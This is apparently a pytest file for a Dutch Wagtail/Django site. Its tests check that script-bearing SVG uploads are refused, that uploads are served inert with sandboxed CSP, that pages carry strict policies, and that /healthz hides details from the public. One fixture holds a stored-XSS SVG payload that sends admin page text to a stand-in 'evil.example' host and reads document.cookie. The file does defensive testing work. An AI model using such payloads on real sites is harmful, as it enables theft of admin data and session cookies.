"""Hostile uploads stay inert, resident pages carry a strict CSP, /healthz tells the public little."""

import io

from django.core.files.base import ContentFile
from django.core.files.images import ImageFile
from django.test import override_settings
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, CollectionViewRestriction

from security.headers import RESIDENT_POLICY, UPLOAD_POLICY
from tests.conftest import HostClient, hub_client

SVG_WITH_SCRIPT = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('/admin/').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>
<rect width="10" height="10" onload="alert(document.cookie)"/></svg>"""


def test_an_svg_with_a_script_is_refused_as_an_image_with_a_dutch_message(hardenberg, in_hub, editor_client):
    client = editor_client("hardenberg")
    upload = ContentFile(SVG_WITH_SCRIPT, name="logo.svg")

    response = client.post("/admin/images/add/", {"title": "Kwaadaardig logo", "file": upload})

    assert response.status_code == 200
    html = response.content.decode()
    assert "Geen ondersteund afbeeldingsformaat" in html or "is niet toegestaan" in html
    with in_hub(hardenberg):
        assert not get_image_model().objects.filter(title="Kwaadaardig logo").exists()


def test_uploaded_images_are_served_with_headers_that_keep_them_inert(hardenberg, in_hub):
    buffer = io.BytesIO()
    PILImage.new("RGB", (8, 8), (10, 120, 200)).save(buffer, format="PNG")
    with in_hub(hardenberg):
        image = get_image_model()(title="Veilig plaatje")
        image.file = ImageFile(io.BytesIO(buffer.getvalue()), name="veilig.png")
        image.save()
        url = image.file.url

    response = hub_client("hardenberg").get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert not response.get("Content-Disposition", "").startswith("attachment")  # shown, never run


def test_a_stored_svg_from_before_is_sent_as_an_inert_download(hardenberg, in_hub):
    with in_hub(hardenberg):
        from django.core.files.storage import default_storage

        name = default_storage.save("original_images/oud.svg", ContentFile(SVG_WITH_SCRIPT))

    response = hub_client("hardenberg").get(f"/media/hardenberg/{name}")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_documents_are_always_downloads_even_pdf_and_html(hardenberg, in_hub):
    with in_hub(hardenberg):
        documents = {}
        for name, content in (("folder.pdf", b"%PDF-1.4\n%%EOF\n"), ("truc.html", b"<script>alert(1)</script>")):
            document = get_document_model()(title=name)
            document.file.save(name, ContentFile(content), save=False)
            document.save()
            documents[name] = document.url

    for url in documents.values():
        response = hub_client("hardenberg").get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == UPLOAD_POLICY
        assert "sandbox" in response["Content-Security-Policy"]


def test_a_private_documents_password_form_is_a_page_and_the_document_behind_it_a_sandboxed_download(hardenberg, in_hub):
    with in_hub(hardenberg):
        collection = Collection.get_first_root_node().add_child(name="Vertrouwelijk")
        restriction = CollectionViewRestriction.objects.create(
            collection=collection, restriction_type=CollectionViewRestriction.PASSWORD, password="geheim"
        )
        document = get_document_model()(title="Convenant", collection=collection)
        document.file.save("convenant.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"), save=False)
        document.save()
        url = document.url
    client = hub_client("hardenberg")

    form = client.get(url)

    assert form.status_code == 200 and "Content-Disposition" not in form
    assert "sandbox" not in form["Content-Security-Policy"], "the form must still submit"
    client.post(
        reverse("wagtaildocs_authenticate_with_password", args=[restriction.pk]), {"password": "geheim", "return_url": url}
    )
    response = client.get(url)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == UPLOAD_POLICY


def test_resident_pages_carry_a_strict_content_security_policy_and_need_nothing_inline():
    for host, path in (("hardenberg.localhost", "/"), ("localhost", "/"), ("twente.localhost", "/zoeken/?q=ouders")):
        response = HostClient(host).get(path)
        policy = response["Content-Security-Policy"]
        assert policy == RESIDENT_POLICY
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        html = response.content.decode()
        assert "<style" not in html and " style=" not in html
        assert "<script>" not in html  # only data blocks (application/ld+json) are allowed
        assert response["Permissions-Policy"].startswith("camera=()")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"]


def test_the_admin_gets_a_policy_that_allows_no_other_host(editor_client):
    policy = editor_client("helmond").get("/admin/")["Content-Security-Policy"]

    assert "default-src 'self'" in policy and "object-src 'none'" in policy
    assert "http" not in policy


PUBLIC = {"REMOTE_ADDR": "203.0.113.9"}


def test_healthz_tells_the_public_only_the_status():
    response = hub_client("hardenberg").get("/healthz", **PUBLIC)

    assert response.status_code == 200
    assert response.json() == {"status": "ok"}


def test_healthz_details_need_the_monitoring_token_or_loopback():
    client = hub_client("hardenberg")
    with override_settings(KNOOPPUNT_MONITORING_TOKEN="monitor-geheim"):
        with_token = client.get("/healthz", HTTP_AUTHORIZATION="Bearer monitor-geheim", **PUBLIC).json()
        wrong_token = client.get("/healthz", HTTP_AUTHORIZATION="Bearer raden", **PUBLIC).json()
    from_loopback = client.get("/healthz", REMOTE_ADDR="127.0.0.1").json()

    assert with_token["database"]["schema"] == "hardenberg"
    assert from_loopback["cache"]["backend"]
    assert wrong_token == {"status": "ok"}


def test_a_client_cannot_claim_loopback_with_a_header():
    client = hub_client("hardenberg")
    # The dev server and tests do not believe X-Real-IP at all.
    assert client.get("/healthz", HTTP_X_REAL_IP="127.0.0.1", **PUBLIC).json() == {"status": "ok"}
    # Production believes it only from nginx on this machine, which overwrites what a client sent.
    with override_settings(KNOOPPUNT_TRUST_X_REAL_IP=True):
        assert client.get("/healthz", HTTP_X_REAL_IP="127.0.0.1", **PUBLIC).json() == {"status": "ok"}
        via_nginx = client.get("/healthz", HTTP_X_REAL_IP="203.0.113.9", REMOTE_ADDR="127.0.0.1").json()
        assert via_nginx == {"status": "ok"}
